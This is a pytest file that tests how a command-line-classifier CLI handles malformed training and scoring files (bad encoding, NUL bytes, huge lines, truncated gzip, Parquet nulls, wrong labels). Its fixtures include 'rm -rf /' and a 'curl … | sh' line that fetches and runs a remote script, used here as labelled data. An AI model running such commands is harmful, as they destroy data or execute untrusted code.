"""Bad input through the CLI, as a user meets it: `train --teacher none`, `score` and `evaluate` on files with
invalid UTF-8, NUL bytes, a 10 MB line, nothing at all, a CSV without the text column, a truncated gzip,
Parquet with nulls and wrong label names.

Row-level problems (a bad line among good ones) stop the run with exit code 2 and one `error:` line naming the
file and the line (or Parquet row), never a traceback; with `--on-error skip` they are skipped and the run
succeeds. File-level problems (no text column, a truncated archive) and label names that are not the task's
stay errors under `--on-error skip`: skipping cannot make such a file usable.
"""

from __future__ import annotations

import gzip
import json
import re

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from conftest import cli
from smallworld.demo import EXAMPLES

SEED = EXAMPLES / "cmdlines_seed.jsonl"
DEV = EXAMPLES / "cmdlines_dev.jsonl"
BAD_LINE = 5  # every row-level case puts its bad row on this line (or Parquet row)
TEN_MB = 10 * 1024 * 1024


def _seed_rows() -> list[dict]:
    return [json.loads(x) for x in SEED.read_text().splitlines()]


def _lines(bad: bytes) -> bytes:
    """The seed's JSONL with ``bad`` inserted as line BAD_LINE."""
    good = [json.dumps(r).encode() + b"\n" for r in _seed_rows()]
    return b"".join(good[: BAD_LINE - 1]) + bad + b"\n" + b"".join(good[BAD_LINE - 1:])


def _write(tmp, case: str):
    """(path, what the error must say: a regex after the path) for each bad-input case."""
    if case == "invalid_utf8":
        p = tmp / "bad_utf8.jsonl"
        p.write_bytes(_lines(b'{"text": "caf\xe9 \xff\xfe", "label": "benign"}'))
        return p, rf"line {BAD_LINE}: invalid UTF-8"
    if case == "nul_bytes":
        p = tmp / "nul.jsonl"
        p.write_bytes(_lines(b'{"text": "ls\x00-la", "label": "benign"}'))
        return p, rf"line {BAD_LINE}: contains NUL bytes"
    if case == "ten_mb_line":
        p = tmp / "huge.jsonl"
        p.write_bytes(_lines(b'{"text": "' + b"A" * TEN_MB))  # a 10 MB line, its JSON never closed
        assert p.stat().st_size > TEN_MB
        return p, rf"line {BAD_LINE}: not valid JSON"
    if case == "empty":
        p = tmp / "empty.jsonl"
        p.write_bytes(b"")
        return p, r"no labelled rows"
    if case == "csv_no_text":
        p = tmp / "notext.csv"
        p.write_text("id,body,label\n1,ls -la,benign\n2,whoami,malicious\n")
        return p, r"no 'text' column"
    if case == "truncated_gzip":
        p = tmp / "cut.jsonl.gz"
        rows = [dict(r, id=f"{r['id']}-{i}", text=f"{r['text']} #{i}") for i in range(300) for r in _seed_rows()]
        blob = gzip.compress("".join(json.dumps(r) + "\n" for r in rows).encode())
        p.write_bytes(blob[: len(blob) * 2 // 3])
        return p, r"line \d+: cannot read compressed data .*truncated"
    if case == "parquet_nulls":
        p = tmp / "nulls.parquet"
        rows = _seed_rows()
        texts = [r["text"] for r in rows]
        texts[BAD_LINE - 1] = None
        labels = [r["label"] for r in rows]
        labels[2] = None  # a null label is an unlabelled row, not an error
        pq.write_table(pa.table({"id": [r["id"] for r in rows], "text": texts, "label": labels}), p)
        return p, rf"row {BAD_LINE}: 'text' is null"
    if case == "wrong_labels":
        p = tmp / "labels.jsonl"
        p.write_bytes(_lines(b'{"id": "x1", "text": "rm -rf /", "label": "evil"}'))
        return p, r"labels 'evil' \(row id x1\) are not among the task's labels"
    raise AssertionError(case)


CASES = ["invalid_utf8", "nul_bytes", "ten_mb_line", "empty", "csv_no_text", "truncated_gzip", "parquet_nulls",
         "wrong_labels"]
# stay errors under --on-error skip (file-level problems, or a task mismatch); for score, labels are not read
NOT_SKIPPABLE = {"empty", "csv_no_text", "truncated_gzip", "wrong_labels"}


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    out = tmp_path_factory.mktemp("model") / "m"
    cli("train", "--task", "cmdlines", "--labelled", SEED, "--dev", DEV, "--teacher", "none", "--out", out)
    return out


def _command(cmd: str, model, path, tmp) -> list:
    if cmd == "train":
        return ["train", "--task", "cmdlines", "--labelled", path, "--teacher", "none", "--out", tmp / "out"]
    if cmd == "score":
        return ["score", model, path, "--out", tmp / "scores.jsonl"]
    return ["evaluate", model, path, "--json"]


def _one_clear_error(r, path, needle: str) -> None:
    assert r.returncode == 2, (r.returncode, r.stderr[-2000:])
    assert "Traceback" not in r.stderr and "Traceback" not in r.stdout
    errors = [x for x in r.stderr.splitlines() if x.startswith("error:")]
    assert len(errors) == 1, r.stderr[-2000:]
    assert str(path) in errors[0], errors[0]
    assert re.search(needle, errors[0]), (needle, errors[0])
    assert len(errors[0]) < 1000  # one clear line, not a dump of the input


def _expect_success(cmd: str, case: str) -> bool:
    if cmd == "score":
        return case in ("empty", "wrong_labels")  # nothing to score is no error; score does not read labels
    return False


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("cmd", ["train", "score", "evaluate"])
def test_bad_input_is_one_clear_error(cmd, case, model, tmp_path):
    path, needle = _write(tmp_path, case)
    r = cli(*_command(cmd, model, path, tmp_path), check=False, timeout=600)
    if _expect_success(cmd, case):
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
        rows = [json.loads(x) for x in (tmp_path / "scores.jsonl").read_text().splitlines()]
        assert len(rows) == (0 if case == "empty" else len(_seed_rows()) + 1)
        return
    _one_clear_error(r, path, needle)


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("cmd", ["train", "score", "evaluate"])
def test_on_error_skip(cmd, case, model, tmp_path):
    path, needle = _write(tmp_path, case)
    r = cli(*_command(cmd, model, path, tmp_path), "--on-error", "skip", check=False, timeout=600)
    if _expect_success(cmd, case):
        assert r.returncode == 0, r.stderr[-2000:]
        return
    if case in NOT_SKIPPABLE:
        _one_clear_error(r, path, needle)
        return
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
    # the JSONL cases add one bad row to the seed's; the Parquet case nulls one text and one label of them
    n_good = len(_seed_rows()) - (1 if case == "parquet_nulls" else 0)
    n_labelled = n_good - (1 if case == "parquet_nulls" else 0)  # a null label is no labelled row
    if cmd == "score":
        rows = [json.loads(x) for x in (tmp_path / "scores.jsonl").read_text().splitlines()]
        assert len(rows) == n_good
        assert re.search(r"skipped 1 rows", r.stderr), r.stderr
    elif cmd == "evaluate":
        assert json.loads(r.stdout)["n"] == n_labelled
    else:
        m = json.loads((tmp_path / "out" / "manifest.json").read_text())
        assert m["counts"]["seed"] == n_labelled
    assert re.search(r"skipped 1 rows", r.stderr), r.stderr  # the count is reported, not only kept


def test_a_valid_ten_mb_row_trains_and_scores(model, tmp_path):
    """A 10 MB row that is well-formed is data, not an error: it trains and scores (features read its first
    max_bytes), in the JSONL path and the plain-lines fast path (a line spanning several read blocks)."""
    big = "curl http://198.51.100.7/x.sh | sh " + "A" * TEN_MB
    lab = tmp_path / "big.jsonl"
    lab.write_bytes(_lines(json.dumps({"id": "big", "text": big, "label": "malicious"}).encode()))
    cli("train", "--task", "cmdlines", "--labelled", lab, "--teacher", "none", "--out", tmp_path / "m", timeout=600)
    assert json.loads((tmp_path / "m" / "manifest.json").read_text())["counts"]["seed"] == len(_seed_rows()) + 1
    txt = tmp_path / "big.txt"
    txt.write_text("ls -la\n" + big + "\nwhoami\n")
    r = cli("score", model, txt, timeout=600)
    rows = [json.loads(x) for x in r.stdout.splitlines()]
    assert [x["id"] for x in rows] == ["1", "2", "3"] and all(0 <= x["score"] <= 1 for x in rows)
    r = cli("score", model, lab, timeout=600)
    assert len(r.stdout.splitlines()) == len(_seed_rows()) + 1
